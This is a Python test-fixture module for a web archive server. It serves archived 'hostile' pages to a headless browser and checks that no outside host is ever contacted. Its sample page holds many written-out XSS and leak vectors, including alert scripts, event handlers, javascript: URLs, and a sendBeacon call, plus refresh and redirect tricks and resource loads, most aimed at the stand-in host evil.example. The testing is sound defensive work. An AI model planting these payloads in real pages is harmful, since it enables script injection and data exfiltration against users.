"""One collection, with honest and hostile pages, one server that shows it, one browser."""

from __future__ import annotations

import json
import shutil
import socket
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

import pytest

from archive.collection import Collection
from archive.model import Article
from archive.text import storable
from archive.urlkey import safe_uri
from crawler.bindings import default_reader
from tests.archive.catalogs import at, capture, full_of, page, write_warc
from tests.crawler.web.payloads import SCRIPTS
from tests.end_to_end import SHARED, rows
from tests.serving import browsing, served

if TYPE_CHECKING:
    from playwright.sync_api import Browser

PUBLIC = SHARED / "corpora" / "naughty_strings.json"
NAUGHTY: list[str] = SCRIPTS + (json.loads(PUBLIC.read_text(encoding="utf-8")) if PUBLIC.exists() else [])
HOSTILE_SITE = "hostile.example"

_EVERYTHING = """<!DOCTYPE html><html><head><title>Honest title of a hostile page</title>
<base href="http://hostile.example/deep/">
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="dns-prefetch" href="//evil.example/"><link rel="preconnect" href="//evil.example/">
<link rel="prefetch" href="http://evil.example/p"><link rel="preload" as="image" href="http://evil.example/q">
<link rel="stylesheet" href="http://evil.example/a.css">
<style>@import "http://evil.example/b.css"; p { background: url(http://evil.example/c.png) }</style>
<script>document.title = "owned"; alert(1); fetch("/db/catalog.json"); navigator.sendBeacon("http://evil.example/b")</script>
<script src="http://evil.example/d.js"></script></head>
<body onload="document.title = 'owned'">
<p id="text" style="background: url(//evil.example/e.png)">An archived paragraph.</p>
<img src="http://evil.example/f.png" srcset="http://evil.example/g.png 2x" onerror="alert(2)">
<svg onload="alert(3)"><image href="http://evil.example/h.png"/><use href="http://evil.example/i.svg#x"/></svg>
<iframe src="javascript:alert(4)"></iframe><iframe srcdoc="<script>alert(5)</script>"></iframe>
<iframe src="/overview"></iframe><object data="http://evil.example/j"></object><embed src="http://evil.example/k">
<form id="f" action="http://evil.example/l"><input name="x" autofocus onfocus="alert(6)"><button>Send</button></form>
<video src="http://evil.example/m" poster="http://evil.example/n.png" autoplay></video>
<noscript><link rel="preconnect" href="//evil.example/"><img src="http://evil.example/o.png"></noscript>
<template shadowrootmode="open"><img src="http://evil.example/r.png"></template>
<a id="js" href="javascript:alert(7)">script</a> <a id="out" href="http://evil.example/s" target="_top">out</a>
<a id="relative" href="story?a=1&amp;b=2">story</a> <a id="same" href="#text">here</a>
</body></html>"""


@dataclass
class Evil:
    """A listener that stands for every host of the web; it must never hear anything."""

    port: int
    """Where it listens."""

    heard: list[str] = field(default_factory=list)
    """What connected."""


@dataclass(frozen=True)
class Reply:
    """What a server answered."""

    status: int
    headers: dict[str, str]
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode()


class _Stays(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *_: Any) -> None:
        """No redirect is followed."""


@dataclass(frozen=True)
class Shown:
    """A collection and its server."""

    path: Path
    """The collection."""

    url: str
    """Where it is shown, without a slash at the end."""

    def get(self, path: str, *, method: str = "GET", **headers: str) -> Reply:
        """The answer to a request; `_` in the name of a header stands for a hyphen."""
        fields = {name.replace("_", "-"): value for name, value in headers.items()}
        request = urllib.request.Request(f"{self.url}{path}", method=method, headers=fields)
        try:
            answer = urllib.request.build_opener(_Stays).open(request, timeout=30)
        except urllib.error.HTTPError as error:
            answer = error
        with answer:
            return Reply(answer.status, {k.lower(): v for k, v in answer.headers.items()}, answer.read())

    def rows(self, query: str, *values: object) -> list[tuple[Any, ...]]:
        """The answer of the catalog."""
        return rows(self.path / "catalog.db", query, *values)

    def memento(self, url: str) -> str:
        """The path of the newest memento of a URL."""
        [(captured_at,)] = self.rows("select max(captured_at) from captures where url = ? and kind <> 'failure'", url)
        return f"/web/{''.join(filter(str.isdigit, captured_at))[:14]}/{url}"


def link(path: str, **parameters: str) -> str:
    """A path with parameters."""
    return f"{path}?{urlencode(parameters, errors='replace')}"


def url_of(number: int) -> str:
    """A URL with the string of that number in it."""
    return safe_uri(f"http://n{number}.example/{NAUGHTY[number]}")


@pytest.fixture(scope="session")
def kept(visited_twice: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The twice visited sites, and beside them articles whose every field is a hostile string, and hostile pages."""
    path = tmp_path_factory.mktemp("web") / "kept"
    shutil.copytree(visited_twice, path)
    collection, reader = Collection.open(path), default_reader()
    with collection.catalog(reader_id=reader.id) as catalog:
        for number, text in enumerate(NAUGHTY):
            where = {"site": HOSTILE_SITE, "captured_at": at(number), "mime": text, "via": text}
            catalog.add(capture(url_of(number), **where), _article([text], f"{text} in story {number}"))
        for number in range(0, len(NAUGHTY), 40):
            texts = NAUGHTY[number : number + 40]
            where = {"site": HOSTILE_SITE, "captured_at": at(number)}
            catalog.add(capture(f"http://all.example/{number}", **where), _article(texts, "\n\n".join(texts)))
        catalog.commit({})
    hostile = {"Set-Cookie": "a=b", "Access-Control-Allow-Origin": "*", "Refresh": "0;url=http://evil.example/"}
    exchanges = [
        page(_EVERYTHING, f"http://{HOSTILE_SITE}/everything", 1, **hostile),
        page("", f"http://{HOSTILE_SITE}/away", 2, status="302 Found", Location="http://evil.example/t"),
        page("", f"http://{HOSTILE_SITE}/script", 3, status="302 Found", Location="javascript:alert(1)"),
    ]
    write_warc(collection, exchanges, name="hostile")
    collection.catch_up(reader.read, reader_id=reader.id)
    return path


def _article(texts: list[str], body: str) -> Article:
    """An article that has these strings wherever a page shows them."""
    whole = full_of(texts, body)
    return replace(whole, language=storable(whole.language)[:20], main_image=texts[0], canonical_url=texts[0], links=())


@pytest.fixture(scope="session")
def shown(kept: Path) -> Iterator[Shown]:
    """`pressmark serve` of that collection, at a free port."""
    with served(kept, "--name", "archive.example") as server:
        yield Shown(kept, server.url)


@pytest.fixture(scope="session")
def evil() -> Iterator[Evil]:
    """Every host of the web, as the browser finds it."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        found = Evil(listening.getsockname()[1])

        def listen() -> None:
            while True:
                try:
                    connection, _ = listening.accept()
                except OSError:
                    return
                found.heard.append(repr(connection))
                connection.close()

        threading.Thread(target=listen, daemon=True).start()
        yield found


@pytest.fixture(scope="module")
def browser(evil: Evil) -> Iterator[Browser]:
    """Headless Chromium, which takes every name for the evil one's.

    Each module has its own: while it runs, its event loop is in the way of every other.
    """
    with browsing(f"MAP *.example 127.0.0.1:{evil.port}, EXCLUDE 127.0.0.1") as chromium:
        yield chromium
